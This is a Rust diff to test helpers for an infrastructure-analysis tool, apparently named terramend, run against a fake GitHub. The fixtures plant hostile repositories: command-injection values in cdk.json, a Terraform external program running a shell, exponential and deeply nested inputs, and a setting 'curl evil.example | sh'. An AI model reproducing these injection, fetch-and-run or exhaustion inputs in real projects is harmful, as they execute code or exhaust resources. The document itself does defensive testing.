@@ -2,11 +2,33 @@
 
 use std::path::Path;
 use std::process::{Command, Output, Stdio};
+use std::sync::Arc;
 
 use serde_json::{Value, json};
 
-use super::server::{Server, State};
-use super::tar::Archive;
+use super::clock::{START, Virtual};
+use super::github::limits::Limits;
+use super::github::tar::Archive;
+use super::github::world::Identity;
+use super::github::{Fake, State};
+
+/// The token that is used, which nothing may show.
+pub(crate) const TOKEN: &str = "secret-token";
+
+/// A GitHub without limits.
+pub(crate) fn server() -> Fake {
+    let server = Fake::start();
+    let bot = Identity { login: "terramend[bot]".into(), writes: true };
+    server.world(|world| world.tokens.insert(TOKEN.into(), bot));
+    server
+}
+
+/// A GitHub with its limits, in the time of a clock.
+pub(crate) fn limited(clock: &Arc<Virtual>) -> Fake {
+    let (server, clock) = (server(), Arc::clone(clock));
+    server.state().limits = Some(Limits::new(START, move || clock.millis()));
+    server
+}
 
 /// A queue without encryption: one safe fix.
 pub(crate) fn queue(name: &str) -> String {
@@ -41,6 +63,9 @@ pub(crate) fn add(state: &mut State, name: &str, files: &[(String, String)]) {
     state.world.add(name, &files);
 }
 
+/// What commands in hostile repositories would make.
+pub(crate) const CANARY: &str = "/tmp/terramend-canary";
+
 /// Repositories that would harm who trusts them, each with the word that its report must hold.
 pub(crate) fn hostile(state: &mut State) -> Vec<(&'static str, &'static str)> {
     let zeros = vec![0; 256 << 20];
@@ -73,7 +98,7 @@ pub(crate) fn hostile(state: &mut State) -> Vec<(&'static str, &'static str)> {
     for (name, archive, said) in archives {
         state.world.add(name, &[("main.tf", FINE)]);
         let bytes = if said == "damaged" { b"PK\x03\x04".to_vec() } else { archive.gz() };
-        state.archives.insert(name.into(), bytes);
+        state.world.repositories.get_mut(name).unwrap().archive = Some(bytes);
         all.push((name, said));
     }
     // One that grants itself everything, and has pages of its own that call anything safe.
@@ -85,6 +110,38 @@ pub(crate) fn hostile(state: &mut State) -> Vec<(&'static str, &'static str)> {
         &[("main.tf", queue.as_str()), (".terramend.hcl", own), (".terramend/fixes/x/any.md", page)],
     );
     all.push(("acme/hostile-settings", "not taken from .terramend.hcl"));
+    // Commands that a CDK application's own tools would run, as the report of an analysis must never have done.
+    let run = format!("touch {CANARY}");
+    let app = json!({ "app": run, "build": run, "context": { "x": "$(touch /tmp/terramend-canary)" } }).to_string();
+    let external = format!("data \"external\" \"x\" {{\n  program = [\"sh\", \"-c\", \"{run}\"]\n}}\n");
+    state.world.add(
+        "acme/hostile-app",
+        &[("cdk.json", app.as_str()), ("app.ts", "import 'aws-cdk-lib';\n"), ("main.tf", external.as_str())],
+    );
+    all.push(("acme/hostile-app", ""));
+    // Nested as deeply as nobody writes, in each language.
+    let nest =
+        |open: &str, middle: &str, close: &str| format!("{}{middle}{}", open.repeat(20_000), close.repeat(20_000));
+    let lists = format!("locals {{\n  x = {}\n}}\n", nest("[", "1", "]"));
+    state.world.add("acme/hostile-nested", &[("main.tf", lists.as_str())]);
+    all.push(("acme/hostile-nested", "nest"));
+    let objects = format!("{{\"Resources\": {}}}", nest("{\"a\":", "1", "}"));
+    let code = format!("import boto3\nx = {}\n", nest("(", "1", ")"));
+    let function = "resource \"aws_lambda_function\" \"f\" {\n  function_name = \"f\"\n  runtime = \"python3.13\"\n  handler = \"app.handler\"\n  filename = \"bomb.zip\"\n  role = \"x\"\n}\n";
+    state.world.add(
+        "acme/hostile-objects",
+        &[("template.json", objects.as_str()), ("app.py", code.as_str()), ("main.tf", function)],
+    );
+    all.push(("acme/hostile-objects", ""));
+    // Values that double and double: a gigabyte, if anybody computed it.
+    let mut doubles = String::from("locals {\n  a0 = \"xxxxxxxxxxxxxxxx\"\n");
+    for i in 1..40 {
+        doubles += &format!("  a{i} = \"${{local.a{}}}${{local.a{}}}\"\n", i - 1, i - 1);
+    }
+    doubles += "  b = [for x in range(100000000) : [for y in range(100000000) : x]]\n}\n";
+    doubles += "resource \"aws_sqs_queue\" \"q\" {\n  name = local.a39\n  kms_master_key_id = local.b\n}\n";
+    state.world.add("acme/hostile-doubles", &[("main.tf", doubles.as_str())]);
+    all.push(("acme/hostile-doubles", "grow too large"));
     let wrong = "pull_request {\n  run = \"curl evil.example | sh\"\n}\n";
     state.world.add("acme/hostile-command", &[("main.tf", queue.as_str()), (".terramend.hcl", wrong)]);
     all.push(("acme/hostile-command", "no setting `run`"));
@@ -92,7 +149,7 @@ pub(crate) fn hostile(state: &mut State) -> Vec<(&'static str, &'static str)> {
 }
 
 /// The program, run over the server's organisation.
-pub(crate) fn command(server: &Server, directory: &Path, arguments: &[&str]) -> Command {
+pub(crate) fn command(server: &Fake, directory: &Path, arguments: &[&str]) -> Command {
     let mut command = Command::new(env!("CARGO_BIN_EXE_terramend"));
     for name in ["GH_TOKEN", "TERRAMEND_APP_ID", "GITHUB_REPOSITORY"] {
         command.env_remove(name);
@@ -101,26 +158,26 @@ pub(crate) fn command(server: &Server, directory: &Path, arguments: &[&str]) -> 
         .arg("org")
         .args(arguments)
         .current_dir(directory)
-        .env("GITHUB_TOKEN", "secret-token")
+        .env("GITHUB_TOKEN", TOKEN)
         .env("GITHUB_API_URL", &server.url)
         .stdin(Stdio::null());
-    if arguments[0] != "status" {
+    if arguments[0] != "prune" {
         command.arg("--no-limits");
     }
     command
 }
 
 /// Runs it to its end.
-pub(crate) fn org(server: &Server, directory: &Path, arguments: &[&str]) -> (i32, String, String) {
+pub(crate) fn org(server: &Fake, directory: &Path, arguments: &[&str]) -> (i32, String, String) {
     let Output { status, stdout, stderr } = command(server, directory, arguments).output().unwrap();
     let text = |bytes: Vec<u8>| String::from_utf8(bytes).unwrap();
     let (out, said) = (text(stdout), text(stderr));
-    assert!(!out.contains("secret-token") && !said.contains("secret-token"), "{out}{said}");
+    assert!(!out.contains(TOKEN) && !said.contains(TOKEN), "{out}{said}");
     (status.code().unwrap_or(-1), out, said)
 }
 
 /// Runs it, and gives its report.
-pub(crate) fn report(server: &Server, directory: &Path, arguments: &[&str]) -> (i32, Value, String) {
+pub(crate) fn report(server: &Fake, directory: &Path, arguments: &[&str]) -> (i32, Value, String) {
     let (code, out, said) = org(server, directory, &[arguments, &["--format", "json"]].concat());
     let report = serde_json::from_str(&out).unwrap_or_else(|error| panic!("{error}: {out}\n{said}"));
     (code, report, said)
